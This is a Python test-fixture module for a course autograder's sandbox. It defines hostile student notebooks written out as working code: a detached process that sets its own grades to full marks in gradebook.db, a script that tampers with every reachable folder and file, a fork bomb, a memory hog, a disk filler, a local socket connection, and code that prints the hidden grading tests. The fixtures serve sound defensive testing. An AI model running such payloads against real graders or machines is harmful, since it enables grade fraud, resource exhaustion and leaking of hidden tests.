"""Hostile submissions: student code that attacks the grader, the course or the machine.

Graded by real nbgrader in tests/test_sandbox.py, where every grading kernel runs in the
bubblewrap sandbox (coursetools/sandbox.py). Each must come out as `loses` says, with full marks
in every other part, and must change nothing outside its own autograded folder:

- hostile_gradebook: a wrong Exercise 1 that leaves a detached process behind, which waits for its
  graded notebook to be saved and then rewrites its own rows of gradebook.db to full marks;
- hostile_write_everywhere: a correct notebook that writes a file into every folder it can reach
  (the whole course, other students' submitted/ and autograded/ folders, autograder/, release/,
  source/, and every folder above its cwd);
- hostile_network: a correct notebook that connects to a server on 127.0.0.1:HOSTILE_PORT;
- hostile_fork_bomb: `get_device` and `fit` (Exercise 4) fork until fork fails, every child staying
  alive: stopped by the sandbox's process limit, Exercise 4 scores 0 (BlockingIOError);
- hostile_memory_hog: `get_device` and `fit` allocate memory until it fails: stopped by the memory
  limit, Exercise 4 scores 0 (MemoryError);
- hostile_fill_disk: `accumulated_step` (Exercise 3) writes one file without end: stopped by the
  file size limit (OSError: File too large), Exercise 3 loses its points;
- hostile_print_hidden: a correct notebook that prints the source of autograder/**/*.py: its
  feedback must not show a line of it.

Each payload sits in a solution cell (ungraded code that runs), so the expected loss is clear.
"""

import copy

from coursetools import NOTEBOOK
from coursetools import notebooks as nbs
from .harness import Sample

from .robustness import WRONG_STD

HOSTILE_PORT = 47613  # tests/test_sandbox.py listens here on 127.0.0.1

# A detached process (its own session, outside the kernel's process group) that outlives the
# kernel when nothing contains it, then gives its student full marks in the gradebook.
GRADEBOOK_REWRITER = f'''
import os, sqlite3, time
from pathlib import Path
here = Path.cwd()
(here / "rewriter_started.txt").write_text(str(os.getpid()))  # proof that it ran (tests/test_sandbox.py)
notebook = here / {NOTEBOOK!r}
start = time.time()
while time.time() - start < 300:
    if notebook.exists() and notebook.stat().st_mtime >= start:
        break
    time.sleep(0.2)
time.sleep(1)
student = here.parent.name
db = sqlite3.connect(str(here.parents[2] / "gradebook.db"), timeout=30)
db.execute("""UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)
              WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn
                                    JOIN submitted_assignment sa ON sn.assignment_id = sa.id
                                    WHERE sa.student_id = ?)""", (student,))
db.commit()
(here / "rewrote_the_gradebook.txt").write_text("done")
'''

DETACHED_PROCESS = f'''
import subprocess as _sp, sys as _sys
_sp.Popen([_sys.executable, "-c", {GRADEBOOK_REWRITER!r}], start_new_session=True,
          stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
'''

WRITE_EVERYWHERE = '''
import os as _os
from pathlib import Path as _Path
_written, _refused = 0, 0
def _try_write(folder):
    global _written, _refused
    try:
        (_Path(folder) / "planted_by_hostile_student.txt").write_text("I was here\\n")
        _written += 1
    except OSError:
        _refused += 1
    for name in ("gradebook.db", "nbgrader_config.py", "__init__.py", "pytorch_fundamentals.ipynb"):
        target = _Path(folder) / name
        if target.is_file():
            try:
                with open(target, "a") as f:
                    f.write("\\n# tampered\\n")
                _written += 1
            except OSError:
                _refused += 1
_course = _Path.cwd().parents[2]
for _dirpath, _dirnames, _ in _os.walk(_course):
    _try_write(_dirpath)
for _up in _Path.cwd().parents:
    _try_write(_up)
for _place in ("/tmp", "/dev/shm", _os.path.expanduser("~")):
    _try_write(_place)
print(f"planted {_written} files, refused {_refused}")
'''

CONNECT = f'''
import os as _os, socket as _socket
print("kernel pid", _os.getpid())  # 2 in the sandbox's own PID namespace
try:
    with _socket.create_connection(("127.0.0.1", {HOSTILE_PORT}), timeout=3) as _s:
        _s.sendall(b"the answers, please")
    print("connected to the grader's machine")
except OSError as _err:
    print("no network:", _err)
'''

PRINT_HIDDEN = '''
import pathlib as _pl, sys as _sys
# the grading modules' folder (autograder/): every file of it the kernel can read
_folder = _pl.Path(_sys.modules["grading_guard"].__file__).parent
for _source in sorted(_folder.rglob("*.py")):
    print(f"==== {_source}")
    print(_source.read_text())
'''

FORK_BOMB = '''
    import os as _os, time as _time
    while True:  # fork until fork fails: without a limit, until the machine's process table is full
        if _os.fork() == 0:
            while True:  # every child stays alive, and never returns to the kernel's code
                _time.sleep(60)
'''

MEMORY_HOG = '''
    _hog = []
    while True:
        _hog.append(b"x" * 2**28)  # 256 MiB at a time, every page touched
'''

FILL_DISK = '''
    with open("fill_the_disk.bin", "wb") as _f:
        while True:
            _f.write(b"\\0" * 2**20)
'''


def prepend(code, gid):
    def transform(nb):
        nb = copy.deepcopy(nb)
        for cell in nb.cells:
            if nbs.grade_id(cell) == gid:
                cell.source = code.strip("\n") + "\n\n" + cell.source
        return nb
    return transform


def in_function(code, anchor, gid):
    """Edits that run `code` (indented for a function body) right before the line `anchor`."""
    return {gid: [(anchor, code.strip("\n") + "\n" + anchor)]}


SAMPLES = [
    Sample("hostile_gradebook", "wrong std, and a detached process that rewrites its grades in gradebook.db "
           "once the graded notebook is saved", WRONG_STD, loses=("ex1",),
           transform=prepend(DETACHED_PROCESS, "ex1_solution")),
    Sample("hostile_write_everywhere", "writes a file into every folder it can reach, and appends to the gradebook "
           "and the config", transform=prepend(WRITE_EVERYWHERE, "ex1_solution")),
    Sample("hostile_network", f"connects to a server on 127.0.0.1:{HOSTILE_PORT}",
           transform=prepend(CONNECT, "ex1_solution")),
    Sample("hostile_fork_bomb", "get_device and fit fork until fork fails",
           {"ex4_solution": [("    if torch.cuda.is_available():\n",
                              FORK_BOMB.strip("\n") + "\n    if torch.cuda.is_available():\n"),
                             ("    model.to(device)\n", FORK_BOMB.strip("\n") + "\n    model.to(device)\n")]},
           loses=("ex4",)),
    Sample("hostile_memory_hog", "get_device and fit allocate memory until it fails",
           {"ex4_solution": [("    if torch.cuda.is_available():\n",
                              MEMORY_HOG.strip("\n") + "\n    if torch.cuda.is_available():\n"),
                             ("    model.to(device)\n", MEMORY_HOG.strip("\n") + "\n    model.to(device)\n")]},
           loses=("ex4",)),
    Sample("hostile_fill_disk", "accumulated_step writes one file without end",
           in_function(FILL_DISK, "    model.train()\n", "ex3_solution"), loses=("ex3",)),
    Sample("hostile_print_hidden", "prints the source of the hidden checks (autograder/**/*.py)",
           transform=prepend(PRINT_HIDDEN, "ex1_solution")),
]

# what each sample's failing tests must say (a substring of the first failure's message in that part)
REASONS = {
    "hostile_fork_bomb": "BlockingIOError",
    "hostile_memory_hog": "MemoryError",
    "hostile_fill_disk": "File too large",
}
